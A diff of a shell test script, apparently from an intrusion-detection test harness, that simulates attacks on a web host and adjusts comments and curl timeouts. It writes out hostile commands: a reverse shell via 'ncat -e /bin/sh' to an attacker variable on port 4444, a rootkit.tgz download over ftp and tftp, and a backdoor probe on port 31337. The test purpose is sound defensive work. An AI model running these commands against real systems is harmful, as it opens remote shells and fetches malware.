@@ -18,7 +18,8 @@ INTRUDERS=() # pids
 
 # infect_web PHASE SECONDS UNTIL: worm, reverse shell and the attacker at the back door try again and
 # again, as they do, until the function UNTIL is content or SECONDS are over. The download is tried
-# once: the alarm would rightly be another one if it called the same host all the time.
+# once, and given up before Linux has sent its fifth SYN: calling the same host all the time is
+# another alarm.
 infect_web() {
     local phase=$1 networks=("$INET4") worm=$FOLDER/worm.py knocker
     ! has_ipv6 || networks+=("$INET6")
@@ -30,7 +31,7 @@ infect_web() {
         echo 'id -un; exit' | ncat -n --no-shutdown -w 3 -s $ATTACKER4 $WEB4 31337; done"
     knocker=$STARTED
     intrude_again "worm-$phase" "$PYTHON" "$worm" "$WORM_TARGETS" "${networks[@]}"
-    intrude "ftp-$phase" curl -sS -m 5 "ftp://$ATTACKER4/rootkit.tgz"
+    intrude "ftp-$phase" curl -sS --connect-timeout 3 -m 10 "ftp://$ATTACKER4/rootkit.tgz"
     intrude "tftp-$phase" curl -sS -m 5 "tftp://$ATTACKER4/rootkit.tgz"
     intrude_again "call-back-$phase" ncat -n -w 1 -e /bin/sh "$ATTACKER4" 4444
     wait_until "$2" "$3" || true # what has not come is missed by the checks that follow
